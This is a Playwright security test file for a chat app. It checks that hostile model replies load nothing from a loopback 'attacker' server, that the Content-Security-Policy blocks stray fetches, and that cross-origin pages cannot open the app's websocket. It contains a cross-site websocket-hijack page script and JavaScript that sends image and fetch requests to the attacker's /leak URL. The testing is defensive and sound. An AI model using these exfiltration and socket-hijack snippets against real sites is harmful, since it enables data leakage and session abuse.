"""Hostile model output in Chromium: nothing is fetched or run, and other sites get no socket.

An "attacker" HTTP server on loopback records every request it receives. Replies echo the
payloads of tests/e2e/payloads.py back, so they are rendered exactly as a model's reply is.
"""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import quote, urlsplit
from urllib.request import Request, urlopen

import pytest
from playwright.sync_api import Page, expect

from tests.e2e import payloads
from tests.e2e.conftest import RunningApp
from tests.e2e.ui import REPLY_TIMEOUT, open_chat, send, thread_id

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(600)]

TITLE = "chatapp"
# The page's own record of what its Content-Security-Policy refused.
RECORD_VIOLATIONS = """
window.cspViolations = [];
document.addEventListener("securitypolicyviolation",
  (e) => window.cspViolations.push(e.violatedDirective + " " + e.blockedURI));
"""
# Served by the attacker: a page on another origin that tries the app's websocket.
SOCKET_PAGE = """<!doctype html><title>waiting</title><script>
const ws = new WebSocket(new URLSearchParams(location.search).get("target"));
ws.onmessage = (e) => { document.title = "message " + e.data.slice(0, 30); };
ws.onerror = () => { document.title = "refused"; };
</script>"""


@dataclass
class Attacker:
    host: str  # 127.0.0.1:<port>
    requests: list[tuple[str, dict[str, str]]] = field(default_factory=list)

    @property
    def leak(self) -> str:
        return f"http://{self.host}/leak"

    @property
    def origin(self) -> str:
        return f"http://{self.host}"


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    """A loopback server that records every request; it answers with a tiny GIF or a page."""
    record = Attacker(host="")

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            record.requests.append((self.path, {k.lower(): v for k, v in self.headers.items()}))
            page = self.path.startswith("/socket")
            body = SOCKET_PAGE.encode() if page else b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
            self.send_response(200)
            self.send_header("Content-Type", "text/html" if page else "image/gif")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    record.host = f"127.0.0.1:{server.server_address[1]}"
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield record
    server.shutdown()
    server.server_close()


def reply_with(page: Page, attacker: Attacker, group: list[payloads.Payload], n: int,
               directive: str = "") -> None:
    text = "\n\n".join(p.render(attacker.leak, attacker.host) for p in group)
    send(page, f"payloads {n}\n\n{text} {directive}")
    reply = page.get_by_test_id("assistant-message")
    expect(reply).to_have_count(n)
    expect(reply.nth(n - 1)).to_have_attribute("data-status", "complete", timeout=REPLY_TIMEOUT)


def violations(page: Page) -> list[str]:
    return page.evaluate("window.cspViolations")


def test_hostile_replies_render_without_a_request_to_the_attacker(
    page: Page, attacker: Attacker, app: RunningApp
) -> None:
    page.context.add_init_script(RECORD_VIOLATIONS)
    open_chat(page)
    # Images stream in slowly so they also pass through the live (streaming) reply.
    reply_with(page, attacker, payloads.IMAGES, 1, "[[rate=60]]")
    thread_id(page)
    reply_with(page, attacker, payloads.HTML, 2)
    reply_with(page, attacker, payloads.LINKS, 3)
    reply_with(page, attacker, payloads.MATH, 4)
    page.mouse.wheel(0, -5000)  # nothing lazy waits for the reader to scroll back up
    time.sleep(1.0)

    assert attacker.requests == [], "the attacker was contacted"
    md = page.locator(".md")
    # Each remote image is a placeholder that names the host, and nothing loads it.
    placeholders = md.get_by_test_id("remote-image")
    expect(placeholders).to_have_count(sum(p.remote_images for p in payloads.IMAGES))
    for label in placeholders.all_inner_texts():
        assert f"Image from {attacker.host}" in label
    # Only the app's own images are images, and they do load.
    images = md.locator("img").evaluate_all(
        "els => els.map(e => [e.src, e.complete && e.naturalWidth > 0])")
    assert [f"{app.url}/favicon.svg", True] in images
    assert all(src.startswith(f"{app.url}/") for src, _ in images)
    # Raw HTML stayed text.
    expect(md.first).to_contain_text("Echo: payloads 1")
    expect(page.get_by_test_id("assistant-message").nth(1)).to_contain_text('<img src="http')
    # Every link opens a new tab without a referrer or a handle on this window.
    links = md.locator("a[href]")
    hrefs = links.evaluate_all("els => els.map(e => e.getAttribute('href'))")
    assert f"{attacker.leak}?id=link" in hrefs and "http://www.example.org" in hrefs
    for anchor in links.all():
        expect(anchor).to_have_attribute("target", "_blank")
        assert set((anchor.get_attribute("rel") or "").split()) >= {"noopener", "noreferrer"}
    # No script: no link keeps a script URL, the title is untouched, no dialog (fixture).
    assert not [h for h in hrefs if h.split(":")[0].strip().lower() in
                ("javascript", "vbscript", "data", "file")]
    assert page.title() == TITLE
    assert violations(page) == [], "the renderer itself tripped the CSP"


def test_a_remote_image_opens_only_when_clicked_and_without_a_referrer(
    page: Page, attacker: Attacker
) -> None:
    open_chat(page)
    send(page, f"look\n\n![diagram]({attacker.leak}?id=click)")
    thread_id(page)
    placeholder = page.get_by_test_id("remote-image")
    expect(placeholder).to_have_text(f"Image from {attacker.host}: diagram")
    time.sleep(0.5)
    assert attacker.requests == []

    with page.context.expect_page() as opened:
        placeholder.click()
    opened.value.wait_for_load_state()
    # The new tab may also ask the attacker's host for /favicon.ico: only the click counts.
    (path, headers), = [(p, h) for p, h in attacker.requests if p.startswith("/leak")]
    assert path == "/leak?id=click"
    assert "referer" not in headers
    assert opened.value.evaluate("window.opener") is None


def test_every_page_sends_a_content_security_policy_and_runs_under_it(
    page: Page, attacker: Attacker, app: RunningApp
) -> None:
    page.context.add_init_script(RECORD_VIOLATIONS)
    response = page.goto("/")
    assert response is not None
    policy = parse_policy(response.headers["content-security-policy"])
    assert policy["img-src"][:3] == ["'self'", "data:", "blob:"]
    assert policy["frame-ancestors"] == ["'none'"] and policy["object-src"] == ["'none'"]
    assert "'unsafe-inline'" not in policy["script-src"]
    assert any(source.startswith("'sha256-") for source in policy["script-src"])
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["referrer-policy"] == "same-origin"
    # The app's own inline scripts and its socket run under the policy...
    open_chat(page)
    send(page, "hello")
    thread_id(page)
    expect(page.get_by_test_id("assistant-message")).to_have_attribute(
        "data-status", "complete", timeout=REPLY_TIMEOUT)
    assert violations(page) == []
    # ...and what slips past the renderer is still not fetched.
    page.evaluate(
        "(leak) => { new Image().src = leak + '?id=csp-img';"
        " fetch(leak + '?id=csp-fetch').catch(() => {}); }", attacker.leak)
    page.wait_for_function("window.cspViolations.length >= 2")
    time.sleep(0.5)
    assert attacker.requests == []
    blocked = " ".join(violations(page))
    assert "img-src" in blocked and "connect-src" in blocked
    for path in ("/signin", "/settings/account", "/chat/unknown-thread"):
        with urlopen(Request(app.url + path, headers={"Accept": "text/html"})) as resp:
            assert "frame-ancestors 'none'" in resp.headers["content-security-policy"]


def test_a_page_on_another_origin_cannot_open_the_apps_websocket(
    page: Page, attacker: Attacker, app: RunningApp
) -> None:
    open_chat(page)  # the browser now holds the app's session cookie
    target = app.url.replace("http://", "ws://") + "/_event/?EIO=4&transport=websocket"
    page.goto(f"{attacker.origin}/socket?target={quote(target, safe='')}")
    expect(page).not_to_have_title("waiting")
    assert page.title() == "refused"


def test_socket_handshakes_are_checked_against_the_apps_own_origin(
    app: RunningApp, attacker: Attacker
) -> None:
    own = app.url
    assert handshake(app, origin=attacker.origin) == 403
    assert handshake(app, origin="null") == 403
    assert handshake(app, origin=own.replace("127.0.0.1", "localhost")) == 403
    assert handshake(app, origin=own) == 101
    assert handshake(app, origin=None) == 101  # a non-browser client (browsers always send it)
    # socket.io's long-polling handshake on the same path is refused the same way.
    status, _ = get(app, "/_event/?EIO=4&transport=polling", Origin=attacker.origin)
    assert status == 403
    # Reflex's HTTP CORS answers no other origin either.
    _, headers = get(app, "/ping", Origin=attacker.origin)
    assert "access-control-allow-origin" not in headers


# --- helpers --------------------------------------------------------------------------------


def parse_policy(header: str) -> dict[str, list[str]]:
    directives = (part.split() for part in header.split(";") if part.strip())
    return {name: values for name, *values in directives}


def handshake(app: RunningApp, origin: str | None) -> int:
    """Status of a raw websocket upgrade to /_event (101 = accepted)."""
    host = urlsplit(app.url).netloc
    lines = [
        "GET /_event/?EIO=4&transport=websocket HTTP/1.1", f"Host: {host}",
        "Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13",
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
    ]
    if origin is not None:
        lines.append(f"Origin: {origin}")
    hostname, port = host.split(":")
    with socket.create_connection((hostname, int(port)), timeout=5) as sock:
        sock.sendall(("\r\n".join(lines) + "\r\n\r\n").encode())
        status_line = sock.recv(4096).split(b"\r\n", 1)[0].decode()
    return int(status_line.split()[1])


def get(app: RunningApp, path: str, **headers: str) -> tuple[int, dict[str, str]]:
    request = Request(app.url + path, headers=headers)
    try:
        with urlopen(request, timeout=5) as resp:
            return resp.status, {k.lower(): v for k, v in resp.headers.items()}
    except OSError as exc:  # HTTPError: a refusal still has a status and headers
        code = getattr(exc, "code", 0)
        return code, {k.lower(): v for k, v in getattr(exc, "headers", {}).items()}
